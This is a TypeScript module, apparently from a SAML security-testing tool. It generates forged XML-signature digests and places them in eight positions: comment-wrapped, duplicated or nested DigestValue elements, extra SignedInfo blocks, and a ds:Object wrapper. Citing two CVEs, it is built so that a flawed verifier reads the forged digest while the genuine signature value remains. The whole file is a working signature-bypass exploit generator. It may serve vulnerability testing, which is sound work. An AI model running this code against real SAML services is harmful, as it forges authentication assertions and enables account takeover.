import { createHash } from "node:crypto";
import { SIGNATURE_NAMESPACE } from "../saml/names.ts";

/** Where the digest of what was changed goes, beside or instead of the signed one. */
export const DIGEST_PLACES = [
  "instead",
  "comment-before",
  "comment-after",
  "second-value",
  "element-inside",
  "signed-info-before",
  "signed-info-after",
  "object-after",
] as const;

/** Where one changed digest goes. */
export type DigestPlace = (typeof DIGEST_PLACES)[number];

const SIGNED_INFO = /<ds:SignedInfo>.*?<\/ds:SignedInfo>/s;
const DIGEST = /<ds:DigestValue>([^<]*)<\/ds:DigestValue>/;

function isElement(node: Node): node is Element {
  return node.nodeType === 1;
}

/** The signature that stands first, and the digest that would fit what it stands in. */
async function fittingDigest(xml: string): Promise<string> {
  // Loaded late: the schema, which every run reads, comes with this module.
  const [{ DOMParser }, { ExclusiveCanonicalization }] = await Promise.all([
    import("@xmldom/xmldom"),
    import("xml-crypto"),
  ]);
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const signature = document.getElementsByTagNameNS(SIGNATURE_NAMESPACE, "Signature").item(0) ?? undefined;
  const signed = signature?.parentNode ?? undefined;
  if (signature === undefined || signed === undefined || !isElement(signed)) return "";
  signed.removeChild(signature);
  const text = new ExclusiveCanonicalization().process(signed, {});
  return createHash("sha256").update(text).digest("base64");
}

function digestElement(content: string): string {
  return `<ds:DigestValue>${content}</ds:DigestValue>`;
}

type Write = (signedInfo: string, genuine: string, forged: string) => string;

function withDigest(signedInfo: string, content: string): string {
  return signedInfo.replace(DIGEST, () => digestElement(content));
}

const PLACES: Readonly<Record<DigestPlace, Write>> = {
  instead: (info, _genuine, forged) => withDigest(info, forged),
  "comment-before": (info, genuine, forged) => withDigest(info, `<!--${forged}-->${genuine}`),
  "comment-after": (info, genuine, forged) => withDigest(info, `${forged}<!--${genuine}-->`),
  "second-value": (info, genuine, forged) =>
    info.replace(DIGEST, () => `${digestElement(forged)}${digestElement(genuine)}`),
  "element-inside": (info, genuine, forged) =>
    withDigest(info, `<ds:DigestValue>${forged}</ds:DigestValue>${genuine}`),
  "signed-info-before": (info, _genuine, forged) => `${withDigest(info, forged)}${info}`,
  "signed-info-after": (info, _genuine, forged) => `${info}${withDigest(info, forged)}`,
  "object-after": (info, _genuine, forged) => `${withDigest(info, forged)}<ds:Object>${info}</ds:Object>`,
};

/**
 * Writes the digest of what the first signature now stands in, so that a verifier that takes it from the wrong place
 * finds nothing changed; the signature value stays that of the genuine SignedInfo.
 *
 * @see CVE-2025-29774, CVE-2025-29775
 */
export async function forgeDigest(xml: string, place: DigestPlace): Promise<string> {
  const forged = await fittingDigest(xml);
  const write = PLACES[place];
  return xml.replace(SIGNED_INFO, (info) => write(info, DIGEST.exec(info)?.[1] ?? "", forged));
}
